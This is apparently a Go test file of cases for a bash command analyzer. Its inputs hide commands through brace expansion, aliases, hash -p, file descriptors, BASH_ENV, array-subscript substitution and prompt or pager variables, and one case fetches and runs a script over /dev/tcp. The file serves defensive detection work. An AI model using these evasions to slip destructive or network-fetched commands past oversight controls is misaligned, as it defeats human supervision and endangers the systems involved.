package shell

// unknowableCases are constructs in which bash runs code that no literal
// command shows: the analysis finds that code, or reports what it cannot
// know as dynamic. TestAnalyze runs them with analyzeCases.
var unknowableCases = []analyzeCase{
	// Brace expansion makes words of literal text, before the command
	// is looked up; empty words drop out.
	{name: "braces make the command", src: `{ssh,web-01,reboot}`, want: []string{"web-01: reboot"}},
	{name: "braces make the name", src: `s{s,}h web-01 reboot`, want: []string{"sh: ssh sh web-01 reboot", "sh: web-01 reboot"}},
	{name: "empty brace word", src: `{,}ssh web-01 x`, want: []string{"ssh: web-01 x"}},
	{name: "nested braces", src: `echo a{b{c,d},e}`, want: []string{"echo abc abd ae"}},
	{name: "brace sequence", src: `echo {1..10..3} {a..e..2} {01..3}`, want: []string{"echo 1 4 7 10 a c e 01 02 03"}},
	{name: "braces with a substitution", src: `{ssh,$(pick)} x`, want: []string{"pick"}, dynamic: 0},
	{name: "braces after a wrapper", src: `sudo {govc,vm.destroy} web-01`, want: []string{"govc vm.destroy web-01"}},
	{name: "quoted braces are literal", src: `"{ssh,web-01}" x`, want: []string{"{ssh,web-01} x"}, not: []string{"ssh"}},
	{name: "find braces are literal", src: `find . -exec rm {} +`, want: []string{"rm {}"}},
	{name: "braces past the bound", src: `{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} x`, dynamic: 1},
	{name: "long sequence", src: `{1..100000}`, dynamic: 1},
	// A glob in command position names files, which the agent can make.
	{name: "glob name", src: `/usr/bin/ss? web-01 reboot`, dynamic: 1, not: []string{"ssh"}},
	{name: "bracket glob name", src: `./[g]ovc vm.destroy x`, dynamic: 1},
	{name: "glob name after a wrapper", src: `sudo /usr/bin/gov* vm.destroy x`, dynamic: 1},
	{name: "glob in a wrapper's option", src: `env -u s[cf]* echo web-01`, dynamic: 1},
	{name: "glob argument is data", src: `ls /usr/bin/ss?`, want: []string{"ls /usr/bin/ss?"}},
	{name: "escaped glob", src: `\[g\]ovc x`, want: []string{"[g]ovc x"}},
	{name: "test bracket", src: `[ -f x ]`, want: []string{"[ -f x ]"}},

	// Aliases bash expands on a later line: chained through a value that
	// ends in a blank, set through BASH_ALIASES, names decided at run
	// time; names hash -p binds; builtins loaded from a file.
	{name: "chained alias", src: "alias a='sudo ' b='govc vm.destroy'\na b x", want: []string{"govc vm.destroy x"}},
	{name: "alias without a blank does not chain", src: "alias a='sudo' b='govc vm.destroy'\na b x", want: []string{"b x"}, not: []string{"govc"}},
	{name: "alias array element", src: "BASH_ALIASES[x]='govc vm.destroy'\nx y", want: []string{"govc vm.destroy y"}},
	{name: "alias array list", src: "BASH_ALIASES=([x]='govc vm.destroy' [y]=ls)\ny; x z", want: []string{"ls", "govc vm.destroy z"}},
	{name: "alias array with a run-time key", src: "BASH_ALIASES[$k]='govc vm.destroy'", dynamic: 1},
	{name: "alias with a run-time name", src: "alias \"$n=govc vm.destroy\"", dynamic: 1},
	{name: "unalias", src: "alias x='govc vm.destroy'\nunalias x\nx y", want: []string{"x y"}, not: []string{"govc"}},
	{name: "hashed name", src: "hash -p /usr/bin/govc g\ng vm.destroy x", want: []string{"govc vm.destroy x"}},
	{name: "hashed name in a loop", src: "for i in 1 2; do g x; hash -p /usr/bin/govc g; done", dynamic: 1},
	{name: "hashed name after a function", src: "f() { g x; }; hash -p /usr/bin/govc g; f", dynamic: 1},
	{name: "hashed run-time path", src: "hash -p \"$P\" g", dynamic: 1},
	{name: "hash lists", src: "hash -r; hash", want: []string{"hash -r", "hash"}},
	{name: "enable -f", src: "enable -f ./x.so x", dynamic: 1},
	{name: "function in the environment", src: "env 'BASH_FUNC_x%%=() { govc vm.destroy y; }' bash -c x", want: []string{"govc vm.destroy y"}},
	{name: "env name with any characters", src: "env 'a b=1' govc vm.destroy y", want: []string{"govc vm.destroy y"}},

	// Scripts bash reads from descriptors the command string feeds.
	{name: "source stdin", src: "source /dev/stdin <<<'rm x'", want: []string{"rm x"}, not: []string{"source"}},
	{name: "dot a descriptor", src: ". /dev/fd/3 3<<<'rm x'", want: []string{"rm x"}},
	{name: "descriptor set by exec", src: "exec 3<<EOF\nrm x\nEOF\nsource /dev/fd/3", want: []string{"rm x"}},
	{name: "stdin set by exec", src: "exec <<<'rm x'\nbash", want: []string{"rm x"}},
	{name: "descriptor copied to stdin", src: "bash 3<<<'rm x' <&3", want: []string{"rm x"}},
	{name: "bash runs /dev/stdin", src: "bash /dev/stdin <<<'rm x'", want: []string{"rm x"}},
	{name: "proc descriptor of the shell", src: "sh /proc/$$/fd/0 <<<'rm x'", want: []string{"rm x"}},
	{name: "descriptor never set", src: "source /dev/fd/7", dynamic: 1},
	{name: "descriptor of a file", src: "source /dev/fd/3 3<env.sh", want: []string{"source /dev/fd/3"}},
	{name: "script from the network", src: "bash < /dev/tcp/example.com/80", dynamic: 1},
	{name: "descriptor read as data", src: "cat /dev/fd/3 3<<<'rm x'", want: []string{"cat /dev/fd/3"}, not: []string{"rm"}},
	{name: "BASH_ENV of a substitution", src: "BASH_ENV=<(echo 'rm x') bash -c true", want: []string{"rm x"}},
	{name: "BASH_ENV of a file", src: "BASH_ENV=./x.sh bash -c true", want: []string{"true"}, dynamic: 1},
	{name: "exported ENV", src: "export ENV=./x.sh", dynamic: 1},

	// Text bash expands again once its quotes are gone.
	{name: "declare subscript", src: `declare 'a[$(rm x)]=1'`, want: []string{"rm x"}},
	{name: "local subscript", src: `f() { local "a[\$(rm x)]=1"; }`, want: []string{"rm x"}},
	{name: "unset subscript", src: `unset 'a[$(rm x)]'`, want: []string{"rm x"}},
	{name: "printf -v subscript", src: `printf -v 'a[$(rm x)]' y`, want: []string{"rm x"}},
	{name: "read subscript", src: `read -r 'a[$(rm x)]'`, want: []string{"rm x"}},
	{name: "read prompt is data", src: `read -p 'a[$(rm x)]' v`, not: []string{"rm"}},
	{name: "test -v subscript", src: `[ -v 'a[$(rm x)]' ]`, want: []string{"rm x"}},
	{name: "[[ -v subscript", src: `[[ -v 'a[$(rm x)]' ]]`, want: []string{"rm x"}},
	{name: "[[ arithmetic", src: `[[ 1 -lt "a[\$(rm x)]" ]]`, want: []string{"rm x"}},
	{name: "[[ string compare is data", src: `[[ 'a[$(rm x)]' == y ]]`, not: []string{"rm"}},
	{name: "let", src: `let 'y=a[$(rm x)]'`, want: []string{"rm x"}},
	{name: "arithmetic string", src: `(( 'a[$(rm x)]' ))`, want: []string{"rm x"}},
	{name: "quoted index", src: `echo ${a['$(rm x)']}`, want: []string{"rm x"}},
	{name: "c-style for", src: `for ((i='a[$(rm x)]'; 0; )); do :; done`, want: []string{"rm x"}},
	{name: "armed variable", src: `y='a[$(rm x)]'`, want: []string{"rm x"}},
	{name: "armed array element", src: `y=('a[$(rm x)]')`, want: []string{"rm x"}},
	{name: "subscript decided at run time", src: `printf -v "a[$k]" y`, dynamic: 1},
	{name: "prompt operator", src: `echo "${x@P}"`, dynamic: 1},
	{name: "traced prompt", src: `PS4='+$(rm x) '`, want: []string{"rm x"}},
	{name: "prompt command", src: `PROMPT_COMMAND='rm x'`, want: []string{"rm x"}},
	{name: "prompt command list", src: `PROMPT_COMMAND=('rm x' ls)`, want: []string{"rm x", "ls"}},
	{name: "mapfile callback", src: `mapfile -C 'rm x' -c 1 a`, want: []string{"rm x"}},
	{name: "compgen command", src: `compgen -C 'rm x' y`, want: []string{"rm x"}},
	{name: "pager", src: `PAGER='rm x' man ls`, want: []string{"rm x", "man ls"}},
	{name: "exported editor", src: `export EDITOR='rm x'`, want: []string{"rm x"}},
	{name: "value with a substitution is data", src: `y='$(rm x)'; echo "$y"`, not: []string{"rm"}},
	{name: "subscript in prose", src: `echo 'a[$(rm x)]'`, not: []string{"rm"}},
	{name: "plain subscript", src: `unset 'a[1]'; read -r 'b[2]'`, want: []string{"unset a[1]"}},
}
